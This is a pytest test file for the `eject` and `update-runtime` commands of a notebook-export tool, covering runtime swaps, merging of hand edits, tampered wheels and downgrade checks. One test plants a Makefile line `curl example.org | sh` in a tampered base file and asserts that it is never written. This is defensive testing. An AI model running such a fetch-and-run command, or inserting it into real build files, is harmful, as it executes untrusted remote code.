"""`nbexport eject` and `nbexport update-runtime`: the runtime of a project changes, and nothing else does."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from conftest import SOUND
from emit.wheels import runtime_wheel

from nbexport.emit import runtime
from nbexport.shell import cli

INIT = "nbexport_runtime/__init__.py"


def run(*words: str | Path) -> int:
    return cli.main([str(word) for word in words])


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under the folder but what undo keeps, which has the time in it."""
    files = [path for path in folder.rglob("*") if path.is_file() and "history" not in path.parts]
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in files}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A wheel of the runtime that this nbexport carries."""
    return runtime_wheel(tmp_path_factory.mktemp("built"))


@pytest.fixture(scope="module")
def newer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A wheel of a runtime of the time to come, which has one file more."""
    return runtime_wheel(tmp_path_factory.mktemp("newer"), version="9.1.0", changed={"bundle/later.py": "LATER = 1\n"})


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, built: Path) -> Path:
    """A folder with a notebook and its level 2 project twice: `vendored` and `package`; nobody changes it."""
    folder = tmp_path_factory.mktemp("exported")
    (folder / "sound.py").write_text(SOUND, encoding="utf-8")
    assert run(folder / "sound.py", "--level", "2", "--output", folder / "vendored") == 0
    options = ("--runtime", "package", "--runtime-wheel", built)
    assert run(folder / "sound.py", "--level", "2", "--output", folder / "package", *options) == 0
    return folder


@pytest.fixture
def place(exported: Path, tmp_path: Path) -> Path:
    """A copy of it."""
    return Path(shutil.copytree(exported, tmp_path / "place"))


def carry(monkeypatch: pytest.MonkeyPatch, version: str, **changed: bytes | None) -> None:
    """This nbexport carries another runtime from here on."""
    files = {**runtime.carried(), INIT: f'"""Another."""\n\n__version__ = "{version}"\n'.encode()}
    for name, content in changed.items():
        path = f"nbexport_runtime/{name.replace('__', '/')}.py"
        files = {other: kept for other, kept in files.items() if other != path}
        files |= {} if content is None else {path: content}
    monkeypatch.setattr(runtime, "carried", lambda: files)


# --------------------------------------------------------------------------- eject


def test_an_ejected_project_is_as_if_exported_so(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run("eject", place / "package") == 0
    assert "has runtime 0.1.0 as the folder `nbexport_runtime/` now" in capsys.readouterr().out
    assert tree(place / "package") == tree(place / "vendored")
    assert run(place / "sound.py", "--level", "2", "--output", place / "package") == 0
    assert "is up to date with `sound.py`" in capsys.readouterr().out


def test_ejecting_twice_says_so(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = tree(place / "vendored")
    assert run("eject", place / "vendored") == 0
    assert "has the runtime as a folder already" in capsys.readouterr().out
    assert tree(place / "vendored") == before


def test_the_folder_is_where_one_is(
    place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(place / "package")
    assert run("eject") == 0
    assert run("update-runtime") == 0
    assert "is up to date" in capsys.readouterr().out


@pytest.mark.parametrize("option", ["--dry-run", "--diff"])
def test_a_look_at_it_writes_nothing(place: Path, option: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = tree(place / "package")
    assert run("eject", place / "package", option) == 0
    shown = capsys.readouterr().out
    assert tree(place / "package") == before
    if option == "--diff":
        assert "-./wheels/nbexport_runtime-0.1.0-py3-none-any.whl" in shown
        assert "files of the runtime differ" in shown
    else:
        assert "orphan    wheels/  (1 file of the runtime)" in shown
        assert "Nothing was written (--dry-run)." in shown


def test_edits_of_other_files_are_merged(place: Path) -> None:
    makefile = place / "package" / "Makefile"
    makefile.write_text(f"{makefile.read_text(encoding='utf-8')}\nmine:\n\ttrue\n", encoding="utf-8")
    train = place / "package" / "train.py"
    train.write_text("# mine\n", encoding="utf-8")
    assert run("eject", place / "package") == 0
    text = makefile.read_text(encoding="utf-8")
    assert text.endswith("mine:\n\ttrue\n")
    assert "CONSTRAINTS" not in text
    assert train.read_text(encoding="utf-8") == "# mine\n"


def test_an_edit_that_is_in_the_way_stops_it(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pins = place / "package" / "requirements.txt"
    edited = pins.read_text(encoding="utf-8").replace("./wheels/", "/my/wheels/")
    pins.write_text(edited, encoding="utf-8")
    before = tree(place / "package")
    assert run("eject", place / "package") == 3
    assert "`requirements.txt` would lose what was written by hand; nothing was written" in capsys.readouterr().err
    assert tree(place / "package") == before
    assert run("eject", place / "package", "--force") == 0
    assert (place / "package" / "requirements.txt.orig").read_text(encoding="utf-8") == edited
    assert "wheels" not in pins.read_text(encoding="utf-8")


def test_locks_that_have_grown_old_are_said(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (place / "package" / "requirements.lock").write_text("", encoding="utf-8")
    assert run("eject", place / "package") == 0
    assert "`make lock`" in capsys.readouterr().out


@pytest.mark.parametrize("damage", ["gone", "changed"])
def test_a_wheel_that_was_not_written_is_not_unpacked(
    place: Path, damage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (held,) = (place / "package" / "wheels").iterdir()
    if damage == "gone":
        held.unlink()
    else:
        held.write_bytes(held.read_bytes() + b" ")
    before = tree(place / "package")
    for command in ("eject", "update-runtime"):
        assert run(command, place / "package") == 2
        assert "is not the wheel that was written there" in capsys.readouterr().err
    assert tree(place / "package") == before


def test_without_its_base_it_says_what_to_do(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (place / "package" / ".nbexport" / "base.json").write_text("{}", encoding="utf-8")
    assert run("eject", place / "package") == 2
    assert "export the notebook again with `--runtime vendored`" in capsys.readouterr().err


def test_a_base_that_the_lock_does_not_vouch_for_is_not_written(place: Path) -> None:
    """Nobody reads the base in a review, so what it holds for an eject is compared with the lock."""
    from nbexport.disk import lockfile

    base = place / "package" / ".nbexport" / "base.json"
    content = json.loads(base.read_bytes())
    others = lockfile.unpacked(content["ejected"])
    content["ejected"] = lockfile.packed({**others, "Makefile": "help:\n\tcurl example.org | sh\n"})
    base.write_text(json.dumps(content), encoding="utf-8")
    assert run("eject", place / "package") == 0
    assert "curl" not in (place / "package" / "Makefile").read_text(encoding="utf-8")


@pytest.mark.parametrize("command", ["eject", "update-runtime"])
def test_a_folder_that_is_no_project(tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(command, tmp_path) == 2
    said = capsys.readouterr().err
    assert f"`{tmp_path}` is not an exported project" in said
    assert "it has no `nbexport.lock`" in said
    (tmp_path / "file").write_text("", encoding="utf-8")
    assert run(command, tmp_path / "file") == 2
    assert "is a file" in capsys.readouterr().err
    assert run(command, tmp_path / "nothing") == 2
    assert "is not an exported project" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["eject", "update-runtime"])
def test_a_level_of_the_time_to_come(place: Path, command: str, capsys: pytest.CaptureFixture[str]) -> None:
    lock = place / "package" / "nbexport.lock"
    lock.write_text(json.dumps({**json.loads(lock.read_bytes()), "level": 77}), encoding="utf-8")
    assert run(command, place / "package") == 2
    assert "level 77, which this nbexport does not know" in capsys.readouterr().err


# --------------------------------------------------------------------------- update-runtime


def test_a_newer_runtime_takes_the_place_of_the_folder(
    place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree(place / "vendored")
    carry(monkeypatch, "0.3.0", bundle__later=b"LATER = 1\n", masking=None, pipeline__more=b"MORE = 1\n")
    assert run("update-runtime", place / "vendored") == 0
    said = capsys.readouterr().out
    assert "note: runtime 0.1.0 becomes 0.3.0" in said
    after = tree(place / "vendored")
    added, gone = after.keys() - before.keys(), before.keys() - after.keys()
    assert added == {"nbexport_runtime/bundle/later.py"}  # `pipeline` is not part of level 2
    assert gone == {"nbexport_runtime/masking.py"}
    changed = {path for path in before.keys() & after.keys() if before[path] != after[path]}
    # the base holds nothing of the runtime
    assert changed == {INIT, "nbexport.lock"}
    # what an export would do now is what has been done
    assert run(place / "sound.py", "--level", "2", "--output", place / "vendored") == 0
    assert "is up to date with `sound.py`" in capsys.readouterr().out
    assert tree(place / "vendored") == after


def test_an_edit_of_the_runtime_is_said_and_kept(
    place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = place / "vendored" / "nbexport_runtime"
    for name in ("masking.py", "secret.py"):
        (folder / name).write_text("mine = 1\n", encoding="utf-8")
    carry(monkeypatch, "0.3.0", masking=None)
    assert run("update-runtime", place / "vendored") == 0
    said = capsys.readouterr().out
    assert "update    nbexport_runtime/secret.py  (edited by hand; replaced" in said
    assert "orphan    nbexport_runtime/masking.py  (edited by hand; removed with the runtime" in said
    for name in ("masking.py", "secret.py"):
        assert (folder / f"{name}.orig").read_text(encoding="utf-8") == "mine = 1\n"
    assert not (folder / "masking.py").exists()
    assert (folder / "secret.py").read_bytes() == runtime.carried()["nbexport_runtime/secret.py"]


def test_a_look_at_an_update_writes_nothing(
    place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree(place / "vendored")
    carry(monkeypatch, "0.3.0")
    assert run("update-runtime", place / "vendored", "--dry-run") == 0
    assert run("update-runtime", place / "vendored", "--diff") == 0
    assert "1 file of the runtime differs" in capsys.readouterr().out
    assert tree(place / "vendored") == before


def test_a_newer_runtime_is_not_taken_back_without_consent(
    place: Path, newer: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for project in ("vendored", "package"):
        with monkeypatch.context() as patch:
            carry(patch, "9.1.0", bundle__later=b"LATER = 1\n")
            if project == "package":
                patch.setattr(runtime, "carried", lambda: wheel_files(newer))
            options = ("--runtime-wheel", newer) if project == "package" else ()
            assert run("update-runtime", place / project, *options) == 0
        later = tree(place / project)
        capsys.readouterr()
        wheels = ("--runtime-wheel", runtime_wheel(place / f"own {project}")) if project == "package" else ()
        assert run("update-runtime", place / project, *wheels) == 2
        assert "has runtime 9.1.0, which is newer than 0.1.0" in capsys.readouterr().err
        assert tree(place / project) == later
        assert run("update-runtime", place / project, *wheels, "--force") == 0
        assert "note: runtime 9.1.0 becomes 0.1.0" in capsys.readouterr().out


def wheel_files(file: Path) -> dict[str, bytes]:
    from nbexport.emit import wheel

    return dict(wheel.read(file).files)


def test_a_newer_wheel_takes_the_place_of_the_older(
    place: Path, newer: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    files = wheel_files(newer)
    monkeypatch.setattr(runtime, "carried", lambda: files)
    before = tree(place / "package")
    assert run("update-runtime", place / "package") == 2
    said = capsys.readouterr().err
    assert "is runtime 0.1.0, and this nbexport writes code for 9.1.0" in said
    assert "--runtime-wheel" in said
    assert tree(place / "package") == before
    assert run("update-runtime", place / "package", "--runtime-wheel", newer) == 0
    after = tree(place / "package")
    assert [path.name for path in (place / "package" / "wheels").iterdir()] == [newer.name]
    texts = ["pyproject.toml", "requirements-serve.txt", "requirements.txt"]
    own = {path for path in before.keys() & after.keys() if before[path] != after[path]}
    assert sorted(own) == [".nbexport/base.json", "nbexport.lock", *texts]
    for name in texts:
        assert b"0.1.0-py3" not in after[name]
        assert b"nbexport-runtime==9.1.0" in after[name]
    assert run(place / "sound.py", "--level", "2", "--output", place / "package") == 0
    assert "is up to date with `sound.py`" in capsys.readouterr().out
    # what lies in the wheel is unpacked, whatever this nbexport carries
    monkeypatch.undo()
    assert run("eject", place / "package") == 0
    assert (place / "package" / "nbexport_runtime" / "bundle" / "later.py").is_file()


def test_a_wheel_is_of_no_use_to_a_folder(place: Path, built: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run("update-runtime", place / "vendored", "--runtime-wheel", built) == 2
    assert "leave `--runtime-wheel` out" in capsys.readouterr().err
